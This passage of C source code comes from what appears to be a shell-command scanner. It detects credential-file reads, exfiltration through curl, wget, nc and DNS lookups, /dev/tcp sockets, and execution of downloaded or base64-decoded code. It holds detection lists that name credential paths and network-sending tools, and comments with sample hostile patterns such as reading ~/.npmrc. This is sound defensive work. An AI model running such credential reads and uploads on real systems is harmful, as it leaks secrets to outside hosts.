		"/etc/os-release", "/etc/resolv.conf", "/proc/", "id_rsa", "id_ed25519", "id_ecdsa", ".ssh/",
		"/.ssh", ".aws/", ".npmrc", ".pypirc", ".netrc", ".git-credentials", ".gitconfig",
		".docker/config", ".kube/config", "_history", "known_hosts", "authorized_keys", ".env",
		"wallet", "keychain", "login data", "cookies", ".gnupg", ".config/gcloud", ".azure/",
	};
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
		if (pv_icontains(a, an, paths[i]))
			return true;
	if (an < 4)
		return false;
	struct pv_source probe = {"probe", a, an, false};
	struct pv_findings tmp = {0};
	pv_scan_literal(&probe, 0, 0, a, an, &tmp);
	bool r = pv_findings_has(&tmp, "sensitive-read");
	pv_findings_free(&tmp);
	return r;
}

static int hostdata(const struct sh *p, const struct seginfo *si, int k, bool strict, int guard);

/* Is some substitution filling token t of segment k (any token when t < 0)
 * host data? Returns the producing segment or -1. */
static int subst_hostdata(const struct sh *p, const struct seginfo *si, int k, int t, bool strict, int guard)
{
	if (guard > 8)
		return -1;
	for (int j = 0; j < p->nseg; j++) {
		if (p->seg[j].parent != k || p->seg[j].cstring || (t >= 0 && p->seg[j].host_tok != t))
			continue;
		int r = hostdata(p, si, j, strict, guard + 1);
		if (r >= 0)
			return r;
	}
	return -1;
}

/* Does segment k output local data: host identity, the environment, or the
 * contents of local files? strict counts only credentials and identity
 * (not "cat VERSION", "uname -m"): for data merely built into a URL.
 * Returns the segment that produces it, or -1. */
static int hostdata(const struct sh *p, const struct seginfo *si, int k, bool strict, int guard)
{
	if (guard > 8 || si[k].prog < 0)
		return -1;
	const char *nm = si[k].name;
	if (si[k].cls & P_ENVDUMP)
		return k;
	if (IN(nm, id_progs) && strcmp(nm, "ls") != 0 && strcmp(nm, "find") != 0 && strcmp(nm, "dir") != 0)
		return k;
	bool reader = IN(nm, file_readers), echo = strcmp(nm, "echo") == 0 || strcmp(nm, "printf") == 0;
	bool lister = strcmp(nm, "ls") == 0 || strcmp(nm, "find") == 0 || strcmp(nm, "dir") == 0;
	bool uname = strcmp(nm, "uname") == 0, printenv = strcmp(nm, "printenv") == 0;
	bool skip_first = IN(nm, pattern_first), operand = false;
	for (int t = si[k].prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (p->tok[t].kind == T_REDIR_IN) {
			if (memchr(a, SUBST_MARK, an)) {
				int r = subst_hostdata(p, si, k, t, strict, guard);
				if (r >= 0)
					return r;
			} else if (reader && (!strict || sensitive_word(a, an))) {
				return k;
			}
			continue;
		}
		if (p->tok[t].kind != T_WORD)
			continue;
		if (uname && a[0] == '-' && (strchr(a, 'a') || strchr(a, 'n')))
			return k; /* uname -a / -n: the host name */
		if (printenv && pv_is_secret_env_name(a, an))
			return k;
		if (lister && (!strict || sensitive_word(a, an) || a[0] == '~'))
			return k;
		if (echo) {
			char name[64];
			if (var_refs(p, a, an, false, name, sizeof name) >= 1)
				return k;
			if (memchr(a, SUBST_MARK, an)) {
				int r = subst_hostdata(p, si, k, t, strict, guard);
				if (r >= 0)
					return r;
			}
			continue;
		}
		if (!reader || (a[0] == '-' && an > 1))
			continue;
		if (skip_first && !operand) {
			operand = true;
			continue;
		}
		if (memchr(a, SUBST_MARK, an)) {
			if (subst_hostdata(p, si, k, t, strict, guard) >= 0)
				return k;
			continue;
		}
		if (!strict || sensitive_word(a, an))
			return k; /* cat FILE */
	}
	if (uname && !strict)
		return k;
	if (lister && !strict)
		return k;
	/* A filter: whatever is piped in. */
	if (reader || strcmp(nm, "xargs") == 0) {
		int j = pipe_from(p, k);
		if (j >= 0)
			return hostdata(p, si, j, strict, guard + 1);
	}
	return -1;
}

/* Local data piped into segment k, or -1. */
static int piped_hostdata(const struct sh *p, const struct seginfo *si, int k)
{
	int j = pipe_from(p, k);
	return j >= 0 ? hostdata(p, si, j, false, 0) : -1;
}

static int next_word(const struct sh *p, int k, int t)
{
	for (int u = t + 1; u < p->ntok; u++)
		if (p->tok[u].seg == k && p->tok[u].kind == T_WORD)
			return u;
	return -1;
}

static const char *const dns_progs[] = {
	"nslookup", "dig", "host", "drill", "ping", "ping6", "resolve-dnsname", "getent", "traceroute",
	"tracert", "kdig", "delv", "test-connection", "test-netconnection",
};
static const char *const stream_progs[] = { /* send their stdin to the network */
	"nc", "ncat", "netcat", "socat", "telnet", "mail", "mailx", "sendmail", "mutt", "s-nail",
};
static const char *const url_progs[] = {
	"curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "aria2c", "fetch",
	"lwp-request", "http", "https", "xh", "wget2", "lynx", "links", "w3m",
};

/* Describe a data value sent by prog: command output, a local file, a
 * secret or identity variable. uses_stdin is set for "@-". */
static bool data_value(const struct sh *p, const char *nm, const char *v, size_t vn, bool at_file,
                       char *detail, size_t cap, bool *uses_stdin)
{
	char name[64];
	int vk;
	if (memchr(v, SUBST_MARK, vn)) {
		snprintf(detail, cap, "%s uploads command output ($(...)) to the network", nm);
		return true;
	}
	if ((vk = var_refs(p, v, vn, false, name, sizeof name)) > 0) {
		snprintf(detail, cap, "%s sends %s $%s to the network", nm, vk == 2 ? "secret" : "host identity",
		         name);
		return true;
	}
	if (at_file) {
		const char *f = NULL;
		if (v[0] == '@')
			f = v + 1;
		else {
			const char *e = memchr(v, '=', vn);
			if (e && (e[1] == '@' || e[1] == '<'))
				f = e + 2; /* -F name=@file, name=<file */
		}
		if (f) {
			if (strcmp(f, "-") == 0) {
				*uses_stdin = true;
				return false;
			}
			if (f[0] && strcmp(f, "/dev/null") != 0) {
				snprintf(detail, cap, "%s uploads local file %.80s", nm, f);
				return true;
			}
		}
	}
	return false;
}

/* Variables assigned host data, in command order: H=$(hostname),
 * export U="$USER", D=$(cat ~/.npmrc). */
static void taint(struct sh *p, const struct seginfo *si)
{
	for (int t = 0; t < p->ntok && p->ntaint < SH_MAX_TAINT; t++) {
		if (p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (!is_assignment(a, an))
			continue;
		size_t eq = (size_t)((const char *)memchr(a, '=', an) - a);
		const char *v = a + eq + 1;
		size_t vn = an - eq - 1;
		char name[64];
		bool hot = (memchr(v, SUBST_MARK, vn) && subst_hostdata(p, si, p->tok[t].seg, t, true, 0) >= 0) ||
		           var_refs(p, v, vn, false, name, sizeof name) > 0;
		if (hot && eq < sizeof p->taint[0] && !tainted(p, a, eq)) {
			memcpy(p->taint[p->ntaint], a, eq);
			p->taint[p->ntaint][eq] = '\0';
			p->ntaint++;
		}
	}
}

/* A network tool that sends local data: report exfiltration. */
static void exfil_rules(const struct sh *p, const struct seginfo *si, int k, struct ctx *x)
{
	const char *nm = si[k].name;
	char detail[200], name[64];
	bool curl = strcmp(nm, "curl") == 0, wget = strcmp(nm, "wget") == 0 || strcmp(nm, "wget2") == 0;
	bool psweb = strcmp(nm, "iwr") == 0 || strcmp(nm, "irm") == 0 || strcmp(nm, "invoke-webrequest") == 0 ||
	             strcmp(nm, "invoke-restmethod") == 0;
	bool url = IN(nm, url_progs), dns = IN(nm, dns_progs), stream = IN(nm, stream_progs);
	bool stdin_used = stream, found = false;
	const char *stdin_file = NULL;
	for (int t = si[k].prog + 1; t < p->ntok && !found; t++) {
		if (p->tok[t].seg != k)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (p->tok[t].kind == T_REDIR_IN) {
			if (memchr(a, SUBST_MARK, an)) {
				int r = subst_hostdata(p, si, k, t, false, 0);
				if (r >= 0 && (stream || curl)) {
					snprintf(detail, sizeof detail, "%s output is sent by %s", si[r].name, nm);
					found = true;
				}
			} else if (strcmp(a, "/dev/null") != 0) {
				stdin_file = a;
			}
			continue;
		}
		if (p->tok[t].kind == T_REDIR_OUT) {
			if ((strstr(a, "/dev/tcp/") || strstr(a, "/dev/udp/")) && hostdata(p, si, k, false, 0) >= 0 &&
			    !(si[k].cls & P_SHELL)) {
				snprintf(detail, sizeof detail, "%s output is written to a network socket (/dev/tcp)", nm);
				found = true;
			}
			continue;
		}
		if (p->tok[t].kind != T_WORD)
			continue;
		/* DNS: host data as a label of the name looked up. */
		if (dns && a[0] != '-' && (subst_label(a, an) || var_refs(p, a, an, true, name, sizeof name) > 0)) {
			snprintf(detail, sizeof detail, "host data sent in a DNS lookup (%s %.60s)", nm,
			         subst_label(a, an) ? "$(...)" : name);
			found = true;
			break;
		}
		/* URLs carrying host data. */
		if (url && strstr(a, "://") && !pv_istarts(a, an, "file:")) {
			const char *h = strstr(a, "://") + 3;
			size_t hn = strcspn(h, "/?#");
			const char *at = memchr(h, '@', hn);
			if (at) {
				hn -= (size_t)(at + 1 - h);
				h = at + 1;
			}
			if (subst_label(h, hn) || var_refs(p, h, hn, true, name, sizeof name) > 0) {
				snprintf(detail, sizeof detail, "host data sent in a DNS lookup (%s URL host name)", nm);
				found = true;
				break;
			}
			const char *rest = h + hn;
			size_t rn = an - (size_t)(rest - a);
			int r = memchr(rest, SUBST_MARK, rn) ? subst_hostdata(p, si, k, t, true, 0) : -1;
			int vk = var_refs(p, rest, rn, false, name, sizeof name);
			if (r >= 0) {
				snprintf(detail, sizeof detail, "%s sends host data in a URL ($(%s))", nm, si[r].name);
				found = true;
				break;
			}
			if (vk > 0) {
				snprintf(detail, sizeof detail, "%s sends %s $%s in a URL", nm,
				         vk == 2 ? "secret" : "host identity", name);
				found = true;
				break;
			}
			continue;
		}
		int v = next_word(p, k, t);
		const char *val = v >= 0 ? tok_s(p, v) : NULL;
		size_t vn = v >= 0 ? p->tok[v].n : 0;
		if ((curl && (strcmp(a, "-H") == 0 || strcmp(a, "--header") == 0 || strcmp(a, "-A") == 0 ||
		              strcmp(a, "--user-agent") == 0 || strcmp(a, "-e") == 0 || strcmp(a, "--referer") == 0 ||
		              strcmp(a, "-b") == 0 || strcmp(a, "--cookie") == 0)) ||
		    (wget && (strcmp(a, "--header") == 0 || strcmp(a, "-U") == 0 || strcmp(a, "--user-agent") == 0 ||
		              strcmp(a, "--referer") == 0)) ||
		    (wget && (strncmp(a, "--header=", 9) == 0 || strncmp(a, "--user-agent=", 13) == 0))) {
			/* Host data in a header: -H "X-Host: $(hostname)", -A "$USER". */
			const char *hv = strchr(a, '=') && wget && a[1] == '-' ? strchr(a, '=') + 1 : val;
			size_t hvn = hv == val ? vn : (hv ? strlen(hv) : 0);
			int ht = hv == val ? v : t;
			int r = hv && memchr(hv, SUBST_MARK, hvn) ? subst_hostdata(p, si, k, ht, true, 0) : -1;
			if (r >= 0 || (hv && var_refs(p, hv, hvn, false, name, sizeof name) == 1)) {
				snprintf(detail, sizeof detail, "%s sends host data in a request header", nm);
				found = true;
			}
			continue;
		}
		if (curl) {
			/* -d / --data* / --json / -F / --form* / -T / --upload-file */
			bool data = strcmp(a, "-d") == 0 || strcmp(a, "--data") == 0 || strcmp(a, "--data-binary") == 0 ||
			            strcmp(a, "--data-ascii") == 0 || strcmp(a, "--data-urlencode") == 0 ||
			            strcmp(a, "--json") == 0 || strcmp(a, "--data-raw") == 0;
			bool form = strcmp(a, "-F") == 0 || strcmp(a, "--form") == 0 || strcmp(a, "--form-string") == 0;
			bool upload = strcmp(a, "-T") == 0 || strcmp(a, "--upload-file") == 0;
			if (!data && !form && !upload && a[0] == '-' && a[1] != '-' && an > 2) {
				/* a cluster: -sd@file, -sSF f=@x, -T/etc/passwd. The first
				 * option taking a value takes the rest (or the next word). */
				for (size_t q = 1; q < an; q++) {
					if (strchr("dFT", a[q])) {
						if (q + 1 < an) {
							val = a + q + 1;
							vn = an - q - 1;
						}
						data = a[q] == 'd';
						form = a[q] == 'F';
						upload = a[q] == 'T';
						break;
					}
					if (strchr("AbcCDeEHKmoPQrtuUwxXyYz", a[q]))
						break;
				}
			}
			if (!val)
				continue;
			if (upload) {
				if (strcmp(val, "-") == 0 || strcmp(val, ".") == 0) {
					stdin_used = true;
				} else if (strcmp(val, "/dev/null") != 0) {
					snprintf(detail, sizeof detail, "curl uploads local file %.80s",
					         val[0] == SUBST_MARK ? "$(...)" : val);
					found = true;
				}
				continue;
			}
			if (data || form) {
				bool at_file = strcmp(a, "--data-raw") != 0 && strcmp(a, "--form-string") != 0;
				if (strcmp(a, "--data-urlencode") == 0 && memchr(val, '@', vn) && val[0] != '@') {
					/* name@file */
					const char *f = memchr(val, '@', vn);
					if (strcmp(f + 1, "-") == 0) {
						stdin_used = true;
						continue;
					}
					snprintf(detail, sizeof detail, "curl uploads local file %.80s", f + 1);
					found = true;
					continue;
				}
				if (data_value(p, nm, val, vn, at_file, detail, sizeof detail, &stdin_used))
					found = true;
			}
		} else if (wget) {
			const char *eqv = NULL;
			bool pdata = false, pfile = false;
			if (strcmp(a, "--post-data") == 0 || strcmp(a, "--body-data") == 0) {
				pdata = true;
			} else if (strcmp(a, "--post-file") == 0 || strcmp(a, "--body-file") == 0) {
				pfile = true;
			} else if (strncmp(a, "--post-data=", 12) == 0 || strncmp(a, "--body-data=", 12) == 0) {
				pdata = true;
				eqv = a + 12;
			} else if (strncmp(a, "--post-file=", 12) == 0 || strncmp(a, "--body-file=", 12) == 0) {
				pfile = true;
				eqv = a + 12;
			}
			if (eqv) {
				val = eqv;
				vn = strlen(eqv);
			}
			if (!val)
				continue;
			if (pdata && data_value(p, nm, val, vn, false, detail, sizeof detail, &stdin_used))
				found = true;
			if (pfile && strcmp(val, "/dev/null") != 0) {
				snprintf(detail, sizeof detail, "wget uploads local file %.80s",
				         val[0] == SUBST_MARK ? "$(...)" : val);
				found = true;
			}
		} else if (psweb) {
			if (pv_ieq(a, an, "-infile") && val) {
				snprintf(detail, sizeof detail, "%s uploads local file %.80s", nm, val);
				found = true;
			} else if (pv_ieq(a, an, "-body") && val &&
			           data_value(p, nm, val, vn, false, detail, sizeof detail, &stdin_used)) {
				found = true;
			}
		} else if ((strcmp(nm, "scp") == 0 || strcmp(nm, "rsync") == 0 || strcmp(nm, "sftp") == 0) &&
		           a[0] != '-' && sensitive_word(a, an) && !strchr(a, ':')) {
			snprintf(detail, sizeof detail, "%s copies %.80s to another host", nm, a);
			found = true;
		}
	}
	if (!found && stdin_used) {
		int r = piped_hostdata(p, si, k);
		if (r >= 0) {
			snprintf(detail, sizeof detail, "%s output is piped to %s and sent to the network", si[r].name, nm);
			found = true;
		} else if (stdin_file && (stream || curl)) {
			snprintf(detail, sizeof detail, "%s sends local file %.80s", nm,
			         stdin_file[0] == SUBST_MARK ? "$(...)" : stdin_file);
			found = true;
		}
	}
	if (found)
		report(x, B_EXFIL, "exfiltration", detail);
}

/* Inline interpreter code (python -c, node -e, perl -e, ruby -e, php -r). */
static void inline_code(const struct sh *p, int k, const struct seginfo *s, struct ctx *x)
{
	enum dec_lang own = sink_lang(s);
	bool code_next = false;
	for (int t = s->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (code_next) {
			if (inline_decode(x, a, an, own)) {
				report(x, B_DECODE, "perm-decode", "inline code decodes base64");
				report(x, B_OBF, "obfuscation", "inline code executes a base64-decoded payload");
			}
			code_next = false;
			continue;
		}
		if (strcmp(a, "-c") == 0 || strcmp(a, "-e") == 0 || strcmp(a, "--eval") == 0 ||
		    strcmp(a, "-p") == 0 || strcmp(a, "--print") == 0 || strcmp(a, "-r") == 0 ||
		    strcmp(a, "-E") == 0)
			code_next = true;
	}
}

/* powershell [-Command] SCRIPT: base64 literals decoded and run in the
 * script ([Convert]::FromBase64String), and uploads of host data. */
static void ps_command(const struct sh *p, int k, const struct seginfo *s, struct ctx *x)
{
	for (int t = s->prog + 1; t < p->ntok; t++) {
		if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
			continue;
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		if (an < 8)
			continue;
		if (inline_decode(x, a, an, L_PS)) {
			report(x, B_DECODE, "perm-decode", "PowerShell decodes base64");
			report(x, B_OBF, "obfuscation", "PowerShell executes a base64-decoded payload");
		}
		ps_judge(x, a, an, false);
	}
}

static void judge(struct sh *p, struct ctx *x)
{
	struct seginfo *si = calloc((size_t)p->nseg, sizeof *si);
	if (!si) {
		x->out->oom = true;
		return;
	}
	for (int k = 0; k < p->nseg; k++)
		classify(p, k, &si[k]);

	taint(p, si);
	struct files files = {.n = 0};
	bool downloaded = false;
	for (int k = 0; k < p->nseg; k++) {
		unsigned cls = si[k].cls;
		char detail[160];
		if (si[k].prog < 0)
			continue;
		if (cls & P_NET) {
			snprintf(detail, sizeof detail, "runs %s", si[k].name);
			report(x, B_NET, "perm-network", detail);
		}
		if (cls & P_DOWNLOAD) {
			if (feeds(p, si, k, P_SINK)) {
				snprintf(detail, sizeof detail, "%s output is executed", si[k].name);
				report(x, B_DLEXEC, "download-exec", detail);
			}
			if (cls & P_POWERSHELL) {
				/* Download and Invoke-Expression in one PowerShell command. */
				for (int t = si[k].prog + 1; t < p->ntok; t++) {
					if (p->tok[t].seg != k)
						continue;
					const char *a = tok_s(p, t);
					size_t an = p->tok[t].n;
					if (pv_icontains(a, an, "iex") || pv_icontains(a, an, "invoke-expression") ||
					    pv_icontains(a, an, "start-process")) {
						report(x, B_DLEXEC, "download-exec",
						       "PowerShell downloads and executes code");
						break;
					}
				}
			}
			download_targets(p, k, &si[k], &files);
			downloaded = true;
		} else if (downloaded && uses_file(p, k, &si[k], &files)) {
			snprintf(detail, sizeof detail, "downloaded file is %s",
			         (cls & P_CHMODX) ? "made executable (chmod +x)" : "executed");
			report(x, B_DLEXEC, "download-exec", detail);
		}
		if ((cls & P_SHELL) || (cls & P_POWERSHELL)) {
			for (int t = si[k].prog + 1; t < p->ntok; t++) {
				if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
					continue;
				const char *a = tok_s(p, t);
				size_t an = p->tok[t].n;
				if (a[0] != '-' && a[0] != '/')
					break;
				bool dash_c = (a[0] == '-' && a[1] != '-' && strchr(a, 'c') && !(cls & P_POWERSHELL)) ||
				              pv_ieq(a, an, "/c") || pv_ieq(a, an, "/k") || pv_ieq(a, an, "-command") ||
				              ((cls & P_POWERSHELL) && pv_ieq(a, an, "-c"));
				if (dash_c) {
					snprintf(detail, sizeof detail, "%s %s runs a command string", si[k].name, a);
					report(x, B_PROC, "perm-process", detail);
					break;
				}
			}
		}
		if (cls & P_POWERSHELL) {
			ps_encoded(p, k, &si[k], x);
			ps_command(p, k, &si[k], x);
		} else if ((cls & P_SINK) && !(cls & P_SHELL) && si[k].name[0] != SUBST_MARK) {
			inline_code(p, k, &si[k], x);
		}
		if ((cls & P_SINK) && !(cls & (P_SHELL | P_POWERSHELL)) && inline_fetch_eval(p, k, &si[k]))
			report(x, B_DLEXEC, "download-exec",
			       "inline interpreter code fetches and evaluates code");
		if (strcmp(si[k].name, "eval") == 0)
			report(x, B_PROC, "perm-process", "eval of a command string");
		if (p->seg[k].subst)
			report(x, B_PROC, "perm-process", "command substitution");
		if (cls & P_FPRINT) {
			snprintf(detail, sizeof detail, "runs %s", si[k].name);
			report(x, B_FPRINT, "host-fingerprint", detail);
		}
		if (cls & P_DECODE) {
			snprintf(detail, sizeof detail, "%s decodes data", si[k].name);
			report(x, B_DECODE, "perm-decode", detail);
			bool ran = decode_pipeline(p, si, k, x);
			if (feeds(p, si, k, P_SINK) || ran) {
				snprintf(detail, sizeof detail, "%s-decoded payload is executed",
			         strcmp(si[k].name, "openssl") == 0 ? "base64" : si[k].name);
				report(x, B_OBF, "obfuscation", detail);
			}
		}
		if ((cls & P_ENVDUMP) && feeds(p, si, k, P_NET))
			report(x, B_ENVSENS, "sensitive-read", "environment dump sent to the network");
		exfil_rules(p, si, k, x);
	}
	/* Word-level checks. */
	for (int t = 0; t < p->ntok; t++) {
		const char *a = tok_s(p, t);
		size_t an = p->tok[t].n;
		char name[130];
		if (memchr(a, '$', an) || memchr(a, '%', an)) {
			if (secret_var_ref(a, an, name, sizeof name)) {
				char detail[200];
				snprintf(detail, sizeof detail, "token environment variable $%s", name);
				report(x, B_SENS, "sensitive-read", detail);
			}
		}
		if (an >= 9 && (strstr(a, "/dev/tcp/") || strstr(a, "/dev/udp/")))
			report(x, B_DEVTCP, "perm-network", "raw socket via /dev/tcp");
		/* URLs, credential paths, blobs. */
		if (an >= 4)
			pv_scan_literal(x->src, x->off, x->row, a, an, x->out);
	}
	free(si);
}

void pv_scan_shell(const struct pv_source *src, size_t off, uint32_t row,
                   const char *cmd, size_t n, struct pv_findings *out)
{
	if (dec_depth == 0)
		dec_budget = DEC_TOTAL; /* a new top-level command line */
	scan_cmd(src, off, row, cmd, n, out);
}

static void scan_cmd(const struct pv_source *src, size_t off, uint32_t row, const char *cmd, size_t n,
                     struct pv_findings *out)
{
	if (!cmd || n == 0)
		return;
	if (n > SH_MAX_LEN)
		n = SH_MAX_LEN;
	struct sh *p = malloc(sizeof *p);
	if (!p) {
		out->oom = true;
		return;
	}
	p->cmd = cmd;
	/* Every byte lands in the arena at most once per nesting level, plus a
	 * NUL or mark per token. */
	p->acap = n * 4 + 256;
	p->arena = malloc(p->acap);
	p->an = 0;
	p->ntok = 0;
	p->nseg = 0;
	p->cur_host = -1;
	p->ntaint = 0;
	p->oom = false;
	if (!p->arena) {
		free(p);
		out->oom = true;
		return;
	}
	parse_range(p, 0, n, -1, 0);
	/* sh -c 'STRING' / cmd /c STRING: parse STRING as a child command. The
	 * arena is stable (no realloc), so STRING stays valid while parsed. */
	struct ctx x = {src, off, row, out, 0, 0};
	int nseg0 = p->nseg;
	for (int k = 0; k < nseg0 && k < p->nseg; k++) {
		struct seginfo si;
		classify(p, k, &si);
		if (!(si.cls & (P_SHELL | P_POWERSHELL)) && strcmp(si.name, "eval") != 0)
			continue;
		bool take = strcmp(si.name, "eval") == 0;
		for (int t = si.prog + 1; t < p->ntok; t++) {
			if (p->tok[t].seg != k || p->tok[t].kind != T_WORD)
				continue;
			const char *a = tok_s(p, t);
			size_t an = p->tok[t].n;
			if (take) {
				/* The command string lives in the arena; parse it from a copy
				 * so the tokeniser can keep writing to the arena. */
				bool rest = strcmp(si.name, "cmd") == 0; /* cmd /c takes the rest of the line */
				if (rest) {
					an = 0;
					for (int u = t; u < p->ntok; u++)
						if (p->tok[u].seg == k && p->tok[u].kind == T_WORD)
							an += p->tok[u].n + 1;
				}
				char *copy = malloc(an + 1);
				if (!copy) {
					out->oom = true;
					break;
				}
				if (rest) {
					size_t m = 0;
					for (int u = t; u < p->ntok; u++)
						if (p->tok[u].seg == k && p->tok[u].kind == T_WORD) {
							if (m)
								copy[m++] = ' ';
							memcpy(copy + m, tok_s(p, u), p->tok[u].n);
							m += p->tok[u].n;
						}
					copy[m] = '\0';
					an = m;
				} else {
					memcpy(copy, a, an + 1);
				}
				const char *saved = p->cmd;
				p->cmd = copy;
				size_t need = p->an + an * 2 + 64;
				int first = p->nseg;
				if (need <= p->acap)
					parse_range(p, 0, an, k, 1);
				for (int j = first; j < p->nseg; j++)
					if (p->seg[j].parent == k)
						p->seg[j].cstring = true;
				p->cmd = saved;
				free(copy);
				if (strcmp(si.name, "eval") != 0)
					break;
				continue;
			}
			if ((a[0] == '-' && a[1] != '-' && strchr(a, 'c') && !(si.cls & P_POWERSHELL)) ||
			    pv_ieq(a, an, "/c") || pv_ieq(a, an, "/k") || pv_ieq(a, an, "-command") || pv_ieq(a, an, "-c"))
				take = true;
			else if (a[0] != '-' && a[0] != '/')
				break;
		}
	}
	judge(p, &x);
	free(p->arena);
	free(p);
}
